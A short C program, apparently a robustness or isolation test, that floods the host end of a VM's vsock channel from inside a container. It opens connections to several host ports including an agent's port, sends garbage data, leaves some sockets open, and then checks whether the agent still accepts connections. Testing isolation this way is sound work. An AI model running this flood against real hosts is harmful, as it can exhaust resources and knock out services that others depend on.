/*
 * vsock-flood ROUNDS: what a container can do to the host's end of its VM's channel. Asks for connections to ports of the
 * host, the agent's among them, without waiting for an answer, sends garbage where somebody takes it, and leaves some of
 * them open. Then it asks the agent's port once more and waits: prints whether it was taken.
 */
#include <fcntl.h>
#include <linux/vm_sockets.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

enum { agent_port = 1024 };

static int ask(unsigned port, int flags, int *fd) {
	struct sockaddr_vm host = {.svm_family = AF_VSOCK, .svm_cid = VMADDR_CID_HOST, .svm_port = port};
	*fd = socket(AF_VSOCK, SOCK_STREAM | flags, 0);
	return *fd < 0 ? -1 : connect(*fd, (struct sockaddr *)&host, sizeof host);
}

int main(int argc, char **argv) {
	static const unsigned ports[] = {agent_port, 1025, 1, 22, 111, 5000, 0x7fffffff};
	static char garbage[65536];
	int rounds = argc > 1 ? atoi(argv[1]) : 1, fd;
	memset(garbage, 'x', sizeof garbage);
	for (int round = 0; round < rounds; round++) {
		for (unsigned i = 0; i < sizeof ports / sizeof *ports; i++) {
			ask(ports[i], SOCK_NONBLOCK, &fd);
			if (fd < 0) continue;
			send(fd, garbage, sizeof garbage, MSG_NOSIGNAL | MSG_DONTWAIT);
			if (round % 2) close(fd);
		}
	}
	puts(ask(agent_port, 0, &fd) == 0 ? "taken" : "refused");
	return 0;
}
